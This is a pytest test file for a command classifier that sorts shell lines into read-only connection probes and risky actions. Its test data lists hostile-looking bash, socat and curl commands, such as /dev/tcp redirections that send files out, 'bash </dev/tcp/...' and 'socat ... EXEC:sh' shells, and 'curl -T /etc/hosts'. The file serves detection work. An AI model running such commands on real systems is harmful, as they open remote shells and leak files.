"""Whether somebody listens, asked in the ways in which people write it."""

from __future__ import annotations

import pytest

from faultyard.model.commands import Act, judge
from unit.model.test_commands import act_of, acts_of
from unit.model.test_executed import asked
from unit.model.test_sessions import POD, Nodes
from unit.model.test_spoken_to import DB, NEIGHBOUR, nodes

__all__ = ["nodes"]
OPEN = "exec 3<>/dev/tcp/10.0.0.1/80"


@pytest.mark.parametrize(
    "text",
    [
        OPEN,
        f"{OPEN} && echo open || echo shut",
        f"({OPEN}) 2>/dev/null && echo open || echo shut",
        f"if ({OPEN}) 2>/dev/null; then echo open; fi",
        f"{OPEN}; echo $?; exec 3>&-",
        "exec 9>/dev/tcp/10.0.0.1/80; exec 9<&-",
        "exec 3</dev/tcp/10.0.0.1/80 2>/dev/null; echo $?",
        f"s=$(date +%s); {OPEN}; date; cat < /etc/hosts > /dev/null",
        "for h in a b; do (exec 3<>/dev/tcp/$h/80) 2>/dev/null && echo $h; done",
        f"x=$({OPEN}; echo open); ls | sort",
        "timeout 3 cat < /dev/tcp/10.0.0.1/80",
        "timeout 2.5s head -c 1 </dev/tcp/10.0.0.1/80 2>/dev/null | wc -c",
        "cat </dev/tcp/10.0.0.1/80",
        "head -n1 </dev/tcp/10.0.0.1/80",
        "timeout 3 cat </dev/null >/dev/tcp/10.0.0.1/80",
    ],
)
def test_a_connection_to_which_nothing_in_the_text_writes_is_a_question(text: str) -> None:
    assert judge("/bin/bash", ["bash", "-c", text]) is Act.STARTS
    assert judge("/bin/bash", ["bash", "-c", text], powerful=False) is Act.STARTS


@pytest.mark.parametrize(
    "text",
    [
        f"{OPEN}; echo x >&3",
        f"{OPEN}; cat /etc/hosts 1>&3",
        f"{OPEN}; exec 1>&3; ls",
        f"{OPEN}; exec >/dev/fd/3; ls",
        f"{OPEN}; cat x > /dev/fd/3",
        f"{OPEN}; cat x > /proc/self/fd/3",
        f"{OPEN}; p=/dev/fd; cat x > $p/3",
        f"{OPEN}; cd /dev/fd; echo x > 3",
        f"{OPEN}; cat x | tee /dev/fd/3",
        f"cd /dev/fd; {OPEN}; cat x | tee 3",
        f"{OPEN}; dd if=x of=/dev/fd/3",
        f"{OPEN}; sh -c 'cd /dev/fd; echo x > 3'",
        f"{OPEN}; python3 x.py",
        f"{OPEN}; exec python3 x.py",
        f"{OPEN} python3 x.py",
        f"{OPEN}; $x",
        f"{OPEN}; command tee /dev/fd/3",
        f"{OPEN}; x=$(cat y | tee /dev/fd/3)",
        f"{OPEN}; trap 'tee /dev/fd/3' EXIT",
        f"x=$({OPEN}; tee /dev/fd/3)",
        "exec <>/dev/tcp/10.0.0.1/80; ls",
        "exec >/dev/tcp/10.0.0.1/80; ls",
        "exec 1<>/dev/tcp/10.0.0.1/80; ls",
        "exec 2>/dev/tcp/10.0.0.1/80; ls x",
        "exec {c}<>/dev/tcp/10.0.0.1/80; ls",
        "exec 3>>/dev/tcp/10.0.0.1/80",
        "{ ls; } 3<>/dev/tcp/10.0.0.1/80",
        "ls 3<>/dev/tcp/10.0.0.1/80",
        "cat </dev/tcp/10.0.0.1/80 >/dev/tcp/10.0.0.2/80",
        "cat - x </dev/tcp/10.0.0.1/80",
        "cat <>/dev/tcp/10.0.0.1/80",
        "cat 1</dev/tcp/10.0.0.1/80",
        "tee /dev/fd/0 </dev/tcp/10.0.0.1/80",
        "timeout 3 bash </dev/tcp/10.0.0.1/80",
        "timeout 3 cat x >/dev/tcp/10.0.0.1/80",
        "timeout -s 9 cat </dev/tcp/10.0.0.1/80",
    ],
)
def test_one_to_which_something_may_write_is_not(text: str) -> None:
    for powerful in (True, False):
        found = judge("/bin/bash", ["bash", "-c", text], powerful=powerful)
        assert found in (Act.UNKNOWN, Act.MIXED)


HEARS = """
socat -u TCP:10.0.0.1:80 -
socat -u TCP:10.0.0.1:80,connect-timeout=3 STDOUT
socat -d -u TCP4:10.0.0.1:80 stdio
socat -u TCP:10.0.0.1:80 /dev/null
socat TCP:10.0.0.1:80,connect-timeout=3 OPEN:/dev/null
"""
SAYS = """
socat TCP:10.0.0.1:80 -
socat TCP:10.0.0.1:80 STDOUT
socat -u - TCP:10.0.0.1:80
socat -u STDIN TCP:10.0.0.1:80
socat -u TCP:10.0.0.1:80 TCP:10.0.0.2:80
socat -u TCP:10.0.0.1:80 /etc/x
socat -u TCP:10.0.0.1:80 OPEN:/dev/nullx
socat -u TCP:10.0.0.1:80 EXEC:sh
socat -u TCP:10.0.0.1:80 -,echo
socat -u TCP-LISTEN:80 -
socat -U TCP:10.0.0.1:80 -
socat '-d -u' TCP:10.0.0.1:80 -
"""


@pytest.mark.parametrize("line", acts_of(HEARS))
def test_who_only_hears_says_nothing(line: str) -> None:
    assert act_of(line) is Act.READ


@pytest.mark.parametrize("line", acts_of(SAYS))
def test_who_may_say_something_may_say_anything(line: str) -> None:
    assert act_of(line) is Act.UNKNOWN


@pytest.mark.parametrize(
    ("line", "fed", "kinds"),
    [
        ("socat TCP:mongodb.hotel:27017,connect-timeout=3 -", False, []),
        ("socat TCP:mongodb.hotel:27017,connect-timeout=3 -", True, ["critical"]),
        ("socat TCP:mongodb.hotel:27017 STDIN", False, ["critical"]),
        ("curl -vk -m 3 telnet://mongodb.hotel:27017", False, []),
        ("curl -sSLf --max-time 3 telnet://mongodb.hotel:27017", False, []),
        ("curl -vk -m 3 telnet://mongodb.hotel:27017", True, ["critical"]),
        ("curl -v -u root:x telnet://mongodb.hotel:27017", False, ["critical"]),
        ("curl -v -t TTYPE=x telnet://mongodb.hotel:27017", False, ["critical"]),
        ("curl -v -T /etc/hosts telnet://mongodb.hotel:27017", False, ["critical"]),
        ("curl -v -d x telnet://mongodb.hotel:27017", False, ["critical"]),
        ("curl -vD /etc/x telnet://mongodb.hotel:27017", False, ["critical"]),
    ],
)
def test_what_sends_its_input_says_nothing_without_one(
    nodes: Nodes, line: str, fed: bool, kinds: list[str]
) -> None:
    asked(nodes, query="stdin=true" if fed else "command=x")
    nodes.executed(*line.split())
    assert nodes.kinds() == [f"opaque_action:{kind}" for kind in kinds]


@pytest.mark.parametrize("address", [DB, NEIGHBOUR])
@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("exec 3<>/dev/tcp/{}/27017 && echo open", False),
        ("exec 3<>/dev/tcp/{}/27017; echo x >&3", True),
        ("timeout 3 cat < /dev/tcp/{}/27017", False),
        ("timeout 3 cat x > /dev/tcp/{}/27017", True),
    ],
)
@pytest.mark.parametrize("login", [True, False])
def test_a_question_to_data_or_to_others_is_nothing(
    nodes: Nodes, address: str, text: str, said: bool, login: bool
) -> None:
    argv = ["bash", "-c", text.format(address)]
    if login:
        nodes.started(*argv, uid=1000, euid=1000)
    else:
        nodes.trial.acts("create", f"Pod/{POD}/exec", code=101)
        nodes.executed(*argv)
    assert nodes.kinds() == ["opaque_action:critical"] * said
